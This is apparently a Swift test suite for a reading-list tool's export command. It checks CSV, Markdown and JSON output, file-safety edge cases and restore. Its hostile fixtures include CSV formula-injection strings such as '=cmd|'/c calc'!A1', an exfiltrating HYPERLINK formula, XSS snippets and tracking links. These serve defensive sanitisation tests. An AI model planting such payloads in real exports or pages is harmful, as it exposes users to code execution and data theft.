import Foundation
import Markdown
import ReadingList
import StudyModel
import TestSupport
import Testing

@testable import Presentation
@testable import study

@Suite struct ExportTests {
  let folder: TemporaryFolder
  let study: StudyBinary

  init() throws {
    folder = try TemporaryFolder()
    study = StudyBinary(home: folder.path)
  }

  private func read(_ name: String) throws -> String {
    String(
      decoding: try Data(contentsOf: URL(fileURLWithPath: folder.path + "/" + name)),
      as: UTF8.self)
  }

  @Test(arguments: [
    ("=cmd|'/c calc'!A1", "\"'=cmd|'/c calc'!A1\""), ("+1+1", "\"'+1+1\""), ("-2+3", "\"'-2+3\""),
    ("@SUM(1)", "\"'@SUM(1)\""), ("\t=1", "\"'\t=1\""), ("\r=1", "\"'\r=1\""),
    ("\n=1", "\"'\n=1\""), ("\u{FF1D}1", "\"'\u{FF1D}1\""), ("'=1", "\"''=1\""),
    (";=1", "\";=1\""), ("\"=1", "\"\"\"=1\""), ("a,b", "\"a,b\""), (" a", "\" a\""),
    ("it's", "it's"), ("a=1", "a=1"), ("", ""), ("\u{301}=", "\u{301}="),
    ("=HYPERLINK(\"http://e/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://e/?\"\"&A1,\"\"x\"\")\""),
  ])
  func `E01 E02 no field is a formula, and each stays one field`(_ text: String, _ field: String) {
    #expect(CSVText.field(text) == field)
  }

  /// The titles of `hostile` as another program reads them.
  @Test(
    .enabled(
      if: FileManager.default.isExecutableFile(atPath: "/usr/bin/python3"), "there is no python3"))
  func `E02 another program reads every field back`() throws {
    let texts = Self.hostile + ["a\r\nb", "\"", "\"\"", "a\tb", "x, \"y\"\n'z'", "'", "''=1"]
    let lines = texts.map { CSVText.line([$0, "end", $0]) }.joined()
    try Data(lines.utf8).write(to: URL(fileURLWithPath: folder.path + "/t.csv"))
    let result = try study.shell(
      """
      python3 -c '
      import csv, json
      with open("t.csv", newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file, strict=True))
      assert all(len(row) == 3 and row[1] == "end" and row[0] == row[2] for row in rows)
      def text(field):
        bare = field.lstrip(chr(39))
        odd = field[:1] == chr(39) and bare[:1] in list("=+-@\\t\\r\\n\\uff1d\\uff0b\\uff0d\\uff20")
        return field[1:] if odd else field
      print(json.dumps([text(row[0]) for row in rows]))
      '
      """)
    let read = try JSONDecoder().decode([String].self, from: Data(result.output.utf8))
    #expect(read == texts, "\(result.errors)")
  }

  static let hostile = [
    "=HYPERLINK(\"http://e/?\"&A1,\"x\")", "](http://evil.example) [", "`code", "a | b",
    "![x](http://track.example/p.png)", "<img src=x onerror=alert(1)>", "</a><script>", "*a* _b_",
    "http://evil.example/bare", "www.evil.example", "\\", "1. # - > x", "a\u{202E}b",
  ]

  @Test func `E04 E07 every item has one link of its own, and no picture is loaded`() throws {
    try Data(
      (Self.hostile.enumerated().map { "- <https://a.example/\($0.offset)>\n" }.joined()
        + "- [ ] http\\://evil.example task\n").utf8
    ).write(to: URL(fileURLWithPath: folder.path + "/l.md"))
    #expect(try study("import", "-q", "l.md").code == 0)
    for (index, title) in Self.hostile.enumerated() {
      #expect(try study("edit", "-q", "\(index + 1)", "--title", title).code == 0)
      #expect(try study("note", "-q", "\(index + 1)", "1. x\n# \(title)").code == 0)
    }
    #expect(try study("export", "-o", "e.md").code == 0)
    let whole = try read("e.md")
    #expect(whole.hasPrefix("<!-- study export 1 -->\n\n"))
    let text = String(whole.dropFirst("<!-- study export 1 -->\n".count))
    #expect(!text.unicodeScalars.contains("\u{202E}"))
    var links: [String] = []
    var pictures = 0
    var html = 0
    // An address in the person's own notes may be a link.
    let lines = text.components(separatedBy: "\n").filter { !$0.hasPrefix("  ") }
    try MarkdownParser.parse(Array(lines.joined(separator: "\n").utf8)) { event in
      switch event {
      case .leaveSpan(.link(let address), _): links.append(address)
      case .leaveSpan(.image, _): pictures += 1
      case .text(.html): html += 1
      default: break
      }
    }
    #expect(links == Self.hostile.indices.map { "https://a.example/\($0)" }, "\(text)")
    #expect(pictures == 0 && html == 0, "\(text)")
    try MarkdownParser.parse(Array(text.utf8)) { event in
      switch event {
      case .leaveSpan(.image, _), .text(.html), .enterBlock(.html): pictures += 1
      case .enterBlock(.heading(let level)): #expect(level == 1)
      default: break
      }
    }
    #expect(pictures == 0, "\(text)")
  }

  @Test func `the Markdown is a list that reads like the original lists`() throws {
    try FileManager.default.copyItem(atPath: seedPath, toPath: folder.path + "/list.md")
    _ = try study("import", "-q", "list.md")
    _ = try study("done", "-q", "1", "11")
    _ = try study("skip", "-q", "2")
    _ = try study("export", "-o", "e.md")
    let before = try ListParser.parse(Array(read("list.md").utf8), fileName: "list.md")
    let after = try ListParser.parse(Array(read("e.md").utf8), fileName: "e.md")
    #expect(after.title == before.title)
    #expect(after.postings.map(\.key) == before.postings.map(\.key))
    #expect(after.postings.map(\.moment?.text) == before.postings.map(\.moment?.text))
    #expect(after.postings.count { $0.box?.state == .done } == 6)
    #expect(
      Set(after.postings.flatMap { $0.tags.map(\.name) })
        == Set(before.postings.flatMap { $0.tags.map(\.name) }))
    // One page stands there under two titles; the author of the other title is not its own.
    #expect(
      Set(before.postings.flatMap(\.authors)).subtracting(after.postings.flatMap(\.authors))
        == ["Jeff Barr"])
    #expect(
      Set(after.postings.flatMap(\.authors)).isSubset(of: before.postings.flatMap(\.authors)))
  }

  @Test func `a heading has six signs at most, a note stands once, a list is no topic of its own`()
    throws
  {
    let text = """
      - [Page](https://a.example)
      # A
      # B
      ## C
      ### D
      #### E
      ##### F
      ###### G
      - [Page](https://a.example)
      """
    try Data(text.utf8).write(to: URL(fileURLWithPath: folder.path + "/l.md"))
    _ = try study("import", "-q", "l.md")
    _ = try study("done", "-q", "1", "-m", "so it goes")
    let markdown = try study("export").output
    #expect(markdown.contains("\n###### G <!-- level 7 -->\n"))
    #expect(!markdown.contains("#######"))
    #expect(markdown.components(separatedBy: "so it goes").count == 2)
    #expect(try study("export", "--format", "csv").output.contains(",l,,1,"))
  }

  @Test func `E09 an existing file stays, and nothing is left half written`() throws {
    try FileManager.default.copyItem(atPath: seedPath, toPath: folder.path + "/list.md")
    let result = try study.shell(
      """
      $study import -q list.md; umask 000
      for format in md csv json; do
        $study export --format $format -o a.$format -q; stat -c %a a.$format
        $study export --format $format -o a.$format -q 2>/dev/null; echo "taken $?"
        $study export --format $format -o /dev/full 2>/dev/null; echo "full $?"
        $study export --format $format >/dev/full 2>/dev/null; echo "full $?"
        $study export --format $format >&- 2>/dev/null; echo "closed $?"
        $study export --format $format | cmp - a.$format
        $study export --format $format -o - | cmp - a.$format
        $study export --format $format | head -c 10 >/dev/null; 
      done
      test -c /dev/full && echo "still a device"
      mkdir sub; $study export -o sub 2>/dev/null; echo "folder $?"
      $study export -o no/such.md 2>/dev/null; echo "missing $?"
      echo mine >mine; chmod 640 mine; ln -s mine link; ln -s nowhere dangling
      $study export -o link 2>/dev/null; echo "link $?"; cat mine
      $study export -o dangling 2>/dev/null; echo "dangling $?"
      $study export -q -o link --force; cmp mine a.md; test -L link && stat -c %a mine
      $study export -q -o dangling --force; test -L dangling && cmp nowhere a.md || echo lost
      rm nowhere
      ( ulimit -f 8; $study export -q --format json -o big.json 2>/dev/null; echo "limit $?" )
      ls -A
      """)
    let each = "600\ntaken 73\nfull 74\nfull 74\nclosed 74\n"
    #expect(
      result.output == each + each + each
        + """
        still a device
        folder 73
        missing 73
        link 73
        mine
        dangling 73
        640
        limit 74
        .local
        a.csv
        a.json
        a.md
        dangling
        link
        list.md
        mine
        sub

        """, "\(result)")
    #expect(result.errors == "")
  }

  @Test func `everything in the JSON is restored by a real process`() throws {
    try FileManager.default.copyItem(atPath: seedPath, toPath: folder.path + "/list.md")
    let result = try study.shell(
      """
      $study import -q list.md; $study done -q -m 'note' 1 2; $study export -q -o a.json
      $study --db new.db restore -q a.json; $study --db new.db export -q -o b.json
      # All but the names of the databases.
      grep -vE '^."[0-9a-f]{16}"(,[0-9]+)?.(}|,$|]})|former_device' a.json >a.txt
      grep -vE '^."[0-9a-f]{16}"(,[0-9]+)?.(}|,$|]})|former_device' b.json >b.txt; diff a.txt b.txt
      $study --db pipe.db restore -q - <a.json && $study --db pipe.db undo -q
      head -c 5000 a.json >half.json; $study --db half.db restore half.json; echo "half $?"
      $study --db new.db restore a.json; echo "again $?"
      $study restore nowhere.json; echo "nowhere $?"
      $study --db new.db import | tail -n 3 | head -n 1
      """)
    #expect(
      result.output == "half 65\nagain 2\nnowhere 66\n"
        + "Unchanged since the last import: 0 new, 0 changed, 0 gone.\n", "\(result)")
    #expect(result.errors.contains("half.json, line "), "\(result.errors)")
  }

  @Test func `an entry of a newer version is restored, named and exported as it is`() throws {
    let list = "- [Alpha page](https://a.example)\n"
    try Data(list.utf8).write(to: URL(fileURLWithPath: folder.path + "/list.md"))
    let result = try study.shell(
      """
      $study import -q list.md; $study done -q 1; $study export -q -o a.json
      sed 's/"done","{}"/"pondered","{\\\\"text\\\\":[1]}"/' a.json >b.json
      cmp -s a.json b.json && echo same
      $study --db b.db restore -q b.json; $study --db b.db export -q -o c.json; cmp b.json c.json
      $study --db b.db show 1 | grep -A1 history; $study --db b.db undo -q; $study --db b.db redo -q
      """)
    #expect(result.errors == "", "\(result)")
    #expect(result.output.contains("something that this version of study cannot read"), "\(result)")
    #expect(!result.output.contains("same"))
  }

  @Test func `a filter selects matches in any state, and the topics above them`() throws {
    let list =
      "# A\n\n- [One page](https://a.example/1)\n- [Two pages](https://a.example/2)\n\n# B\n\n"
      + "- [[CDK] Three pages](https://a.example/3)\n"
    try Data(list.utf8).write(to: URL(fileURLWithPath: folder.path + "/l.md"))
    let result = try study.shell(
      """
      $study import -q l.md; $study done -q 1; $study skip -q 3
      $study export topic:a; echo --; $study export --format csv tag:cdk or is:done | cut -d, -f 1,2
      echo --; $study export --format csv is:done | wc -l
      """)
    #expect(
      result.output == """
        <!-- study export 1 -->

        # l

        ## A

        - [x] [One page](<https://a.example/1>)
        - [ ] [Two pages](<https://a.example/2>)
        --
        id,state
        1,done
        3,skipped
        --
        2

        """, "\(result)")
    let nothing = try study("export", "--format", "csv", "tag:cdc")
    #expect(nothing.code == 0 && nothing.errors.contains("CDK"), "\(nothing)")
    let whole = try study("export", "--format", "json", "tag:cdk")
    #expect(whole.code == 64 && whole.errors.contains("whole database"), "\(whole)")
    #expect(try study("export", "-o", "new.md", "tga:cdk").code == 64)
    #expect(!FileManager.default.fileExists(atPath: folder.path + "/new.md"))
  }

  @Test func `an import of an archive is answered with the command to restore it`() throws {
    try FileManager.default.copyItem(atPath: seedPath, toPath: folder.path + "/list.md")
    _ = try study("import", "-q", "list.md")
    _ = try study("export", "-q", "-o", "all.json")
    let result = try study("import", "all.json")
    #expect(result.code == 65 && result.errors.contains("study restore FILE"), "\(result)")
  }
}
